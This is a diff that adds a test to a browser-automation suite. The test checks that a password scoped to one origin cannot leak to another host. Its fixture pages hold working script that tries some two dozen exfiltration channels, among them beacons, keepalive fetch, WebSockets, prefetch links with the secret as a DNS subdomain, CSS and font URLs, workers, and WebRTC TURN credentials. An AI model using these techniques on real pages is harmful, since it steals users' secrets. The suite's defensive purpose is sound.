@@ -371,6 +371,78 @@ describe.skipIf(!existsSync(CHROMIUM))(
       expect((await replay([visit(`${origin}/paste`), visit(`${own}/login`), ...typed], { secrets })).ok).toBe(true);
     });
 
+    test("nor by what another host's page had open before, or by any other way that a page has", async () => {
+      const own = origin.replace(SHOP, "127.0.0.2");
+      const secrets = { password: { value: "env:SHOP_PASSWORD", origins: [own] } };
+      NETWORK.allowed_hosts.push("127.0.0.2");
+      const heard: string[] = [];
+      const socket = createTcp((connection) => {
+        connection.on("data", (bytes) => heard.push(bytes.toString("latin1")));
+        connection.on("error", () => undefined);
+      });
+      const other = `${SHOP}:${await listening(socket as never, "127.0.0.2")}`;
+      const udp = createSocket("udp4").on("message", (bytes) => heard.push(bytes.toString("latin1")));
+      await new Promise<void>((resolve) => udp.bind(0, "127.0.0.2", resolve));
+      const stun = (udp.address() as AddressInfo).port;
+      pages.set("/seen", `<p>${SHOP}</p>`);
+      // Of the other host, open before anything was typed: a frame with a connection, a popup, a worker.
+      pages.set(
+        "/frame",
+        `<script>
+          const open = new WebSocket("ws://${other}/early");
+          const later = fetch("http://${other}/slow", { method: "POST", body: "early", mode: "no-cors" }).catch(() => 0);
+          onmessage = ({ data }) => { try { open.send(data); } catch {} fetch("/stolen?frame" + data).catch(() => 0); new Image().src = "/stolen?image" + data; location = "/stolen?gone" + data; };
+          setInterval(() => document.cookie.includes("x") && fetch("/stolen?cookie"), 50);
+        </script>`,
+      );
+      const ways = `
+        const v = p.value, at = "${origin}/stolen?";
+        const tell = (work) => { try { Promise.resolve(work()).catch(() => 0); } catch {} };
+        tell(() => document.querySelector("iframe").contentWindow.postMessage(v, "*"));
+        tell(() => popup.postMessage(v, "*"));
+        tell(() => { const f = document.createElement("form"); f.action = at + "form"; f.method = "post"; f.target = "_blank"; f.innerHTML = "<input name=v>"; f.firstChild.value = v; document.body.append(f); f.submit(); });
+        tell(() => { window.open(at + "open" + v); });
+        tell(() => { const a = document.createElement("a"); a.href = at + "ping"; a.ping = at + "ping" + v; a.download = "x"; document.body.append(a); a.click(); });
+        tell(() => navigator.sendBeacon(at + "beacon", v));
+        tell(() => fetch(at + "alive" + v, { keepalive: true, mode: "no-cors" }));
+        tell(() => { new WebSocket("ws://${other}/late" + v); });
+        tell(() => { new EventSource(at + "events" + v); });
+        for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "prerender", "stylesheet", "icon", "manifest", "modulepreload"])
+          tell(() => { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = rel === "dns-prefetch" || rel === "preconnect" ? "http://" + v.toLowerCase() + ".example.com:${new URL("http://x").port || 80}/" : at + rel + v; document.head.append(l); });
+        tell(() => { const s = document.createElement("style"); s.textContent = "body { background: url(" + at + "css" + v + ") } @font-face { font-family: x; src: url(" + at + "font" + v + ") } body { font-family: x }"; document.head.append(s); });
+        tell(() => { const o = document.createElement("object"); o.data = at + "object" + v; document.body.append(o); });
+        tell(() => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "worker" + v + "', { mode: 'no-cors' })"]))); });
+        tell(() => { const m = document.createElement("video"); m.src = at + "video" + v; document.body.append(m); });
+        tell(() => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "3;url=" + at + "meta" + v; document.head.append(m); });
+        tell(async () => { const r = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.2:${stun}" }, { urls: "turn:127.0.0.2:${stun}?transport=udp", username: v, credential: v }, { urls: "turn:${other}?transport=tcp", username: v, credential: v }] }); r.createDataChannel("x"); await r.setLocalDescription(await r.createOffer()); });
+        tell(() => { window.name = v; });
+        tell(() => { history.pushState(0, "", "?" + v); document.title = v; });
+        tell(() => { speechSynthesis.speak(new SpeechSynthesisUtterance(v)); });
+        tell(() => { throw new Error("it is " + btoa(v) + " " + v); });
+        tell(() => { console.table([v]); console.error({ v }); });`;
+      pages.set(
+        "/busy",
+        `<iframe src="${origin}/frame"></iframe><input id="p"><button id="b" onclick='popup = window.open("${origin}/frame")'>open</button>
+        <script>let popup; p.onchange = () => { ${ways} };</script>`,
+      );
+      const steps: JsonObject[] = [
+        { do: "goto", url: `${own}/busy` },
+        { do: "click", selector: "#b" },
+        { do: "fill", selector: "#p", secret: "password" },
+        { do: "press", selector: "#p", key: "Tab" },
+      ];
+      asks = [];
+      const said = await replay(steps, { secrets }).catch((error: Error) => ({ error: error.message, refused: [] }));
+      await new Promise((resolve) => setTimeout(resolve, 2_500));
+      socket.close();
+      udp.close();
+      const sentOff = asks.filter((one) => one.includes(SHOP) && one.includes("/stolen"));
+      expect(sentOff, JSON.stringify(said)).toEqual([]);
+      expect(heard.join(" ").toLowerCase()).not.toContain("canary");
+      expect(Object.keys(asked).filter((name) => name.includes("canary"))).toEqual([]);
+      expect(heard.join(" ")).toContain("/early");
+    });
+
     test("a run that wants it to stop ends the browser", async () => {
       const ends = new AbortController();
       const running = failureOf(
